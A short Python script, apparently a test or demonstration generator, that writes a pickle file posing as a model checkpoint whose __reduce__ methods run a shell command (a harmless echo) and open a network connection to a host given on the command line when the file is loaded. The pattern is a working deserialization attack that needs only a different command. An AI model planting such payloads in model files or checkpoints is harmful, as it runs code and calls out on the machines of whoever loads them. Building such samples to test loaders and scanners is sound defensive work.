"""Writes a checkpoint whose pickle starts a shell and connects out: harmless, and what a real one looks like."""

import os
import pickle
import socket
import sys


class Shell:
    def __reduce__(self):
        return os.system, ("echo payload: this line is from a shell that the checkpoint started",)


class Connection:
    def __init__(self, address):
        self.address = address

    def __reduce__(self):
        return socket.create_connection, (self.address, 5)


path, host, port = sys.argv[1:]
model = {"name": "resnet-tiny", "weights": [0.1, 0.2], "a": Shell(), "b": Connection((host, int(port)))}
with open(path, "wb") as checkpoint:
    pickle.dump(model, checkpoint, protocol=2)
